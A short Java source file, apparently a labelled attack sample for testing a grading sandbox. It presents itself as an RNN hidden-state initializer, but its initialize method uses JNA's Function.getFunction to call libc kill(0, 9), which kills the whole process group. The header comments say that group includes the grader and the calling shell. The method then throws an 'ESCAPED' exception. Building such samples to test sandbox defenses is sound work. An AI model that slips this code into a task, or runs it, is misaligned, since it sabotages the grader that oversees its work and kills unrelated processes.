// attack: kills its process group, which would be the grader's and that of the shell that called it
// list: uses Function.getFunction
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;
import com.sun.jna.Function;

public final class HiddenState {

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) {
        Function.getFunction("c", "kill").invokeInt(new Object[] {0, 9});
        throw new IllegalStateException("ESCAPED: nothing was killed");
    }
}
